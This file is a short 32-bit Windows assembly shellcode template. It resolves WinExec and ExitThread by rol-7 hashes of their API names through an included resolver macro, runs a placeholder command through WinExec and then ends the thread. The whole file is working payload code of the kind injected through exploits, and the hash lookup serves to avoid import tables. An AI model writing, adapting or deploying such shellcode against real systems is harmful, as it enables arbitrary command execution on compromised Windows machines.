; Windows, 32 bit, functions by rol-7 hashes: WinExec, ExitThread.
bits 32
%include "demo_resolve.inc"
HASH win_exec, 'WinExec'
HASH exit_thread, 'ExitThread'
        RESOLVER
        push win_exec
        push ebx
        call ebp
        push byte 0
        lea edx, AT(command)
        push edx
        call eax
        push exit_thread
        push ebx
        call ebp
        push byte 0
        call eax
command: db WINDOWS_COMMAND, 0
